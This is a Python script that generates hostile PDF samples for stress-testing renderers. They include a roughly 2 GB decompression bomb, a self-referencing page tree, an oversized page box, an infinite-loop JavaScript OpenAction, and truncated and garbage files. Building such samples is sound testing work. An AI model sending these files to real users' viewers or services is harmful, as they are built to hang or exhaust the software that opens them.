# Writes documents into the home that mean harm to who draws them, and to nobody else.
import os
import subprocess
import zlib

os.chdir(os.environ["HOME"])


def document(name, content, box="0 0 600 800", catalog="", kids="3 0 R"):
    """A PDF of one page, with a table of where its objects are."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        f"<< /Type /Pages /Kids [{kids}] /Count 1 >>".encode(),
        f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R /Resources << >> >>".encode(),
        b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 5\n0000000000 65535 f \n"
    for place in places:
        out += b"%010d 00000 n \n" % place
    out += b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % table
    with open(name, "wb") as file:
        file.write(out)


def packed(part, times):
    """Packs a part once and says it many times: no packing looks back beyond a full flush."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(part) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + again * times + packer.flush()


square = zlib.compress(b"0 0 0 rg 100 100 300 300 re f")
# A content of 2 GB, packed a thousand times smaller.
document("bomb.pdf", packed(b"q 1 0 0 1 0 0 cm Q\n" * 100_000, 1100))
# Pages that are their own parents.
document("loop.pdf", square, kids="2 0 R")
document("wide.pdf", square, box="0 0 2834645 2834645")
document("acts.pdf", square, catalog="/OpenAction << /S /JavaScript /JS (for(;;){}) >>")
with open("acts.pdf", "rb") as whole, open("cut.pdf", "wb") as cut:
    cut.write(whole.read()[:300])
with open("nothing.pdf", "wb") as file:
    file.write(b"%PDF-1.7\n" + bytes(range(256)) * 40)
gs = ["gs", "-q", "-dSAFER", "-dBATCH", "-dNOPAUSE", "-sDEVICE=pdfwrite", "-sOutputFile=locked.pdf"]
gs += ["-sUserPassword=secret", "-sOwnerPassword=secret", "-dEncryptionR=3", "-dKeyLength=128"]
subprocess.run([*gs, "-c", "/count 1 def", "-f", "pages.ps"], check=True)
